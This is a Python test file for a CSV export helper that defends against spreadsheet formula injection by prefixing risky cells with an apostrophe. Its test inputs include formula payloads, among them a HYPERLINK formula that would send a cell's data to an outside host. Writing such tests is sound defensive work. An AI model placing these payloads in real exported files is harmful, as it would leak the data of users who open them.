import csv
import datetime as dt
import io
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from doorstep.kit.csv_text import csv_text, safe_text

texts = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=20)
risky = st.builds(
    lambda start, rest: start + rest,
    st.text(st.sampled_from("=+-@\t\r\n＝＋－＠﹢﹣ \u200b\ufeff'\","), min_size=1, max_size=4),  # noqa: RUF001
    texts,
)


def read(text):
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+358401234567",
        "-2",
        "@SUM(A1)",
        "\t=1+1",
        "\rx",
        "\nx",
        "  =1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "＝1+1",  # noqa: RUF001
        "＋1",  # noqa: RUF001
        "－1",  # noqa: RUF001
        "＠A1",  # noqa: RUF001
        "﹢1",
        '=HYPERLINK("http://example.org?"&A1)',
    ],
)
def test_what_could_be_a_formula_stands_behind_an_apostrophe(text):
    assert safe_text(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "12 B", "O'Hara Street", "a=b", "Überweg", "'s-Graven", "  x"]
)
def test_other_text_stays_as_it_is(text):
    assert safe_text(text) == text


@given(st.lists(st.lists(texts | risky, min_size=2, max_size=2)))
def test_any_text_comes_back_and_no_cell_begins_like_a_formula(rows):
    header, *found = read(csv_text(["a", "b"], rows))
    assert header == ["a", "b"]
    assert len(found) == len(rows)
    for row, wanted in zip(found, rows, strict=True):
        for cell, text in zip(row, wanted, strict=True):
            assert cell in {text, f"'{text}"}
            assert unicodedata.normalize("NFKC", cell.strip()[:1]) not in {"=", "+", "-", "@"}
            assert not cell.startswith(("\t", "\r", "\n"))


def test_our_own_values_are_written_plainly():
    at = dt.datetime(2026, 10, 3, 8, 0, tzinfo=dt.UTC)
    text = csv_text(["a", "b", "c", "d", "e"], [[-71.1, True, False, at, None]])
    assert text == "a,b,c,d,e\r\n-71.1,true,false,2026-10-03T08:00:00+00:00,\r\n"
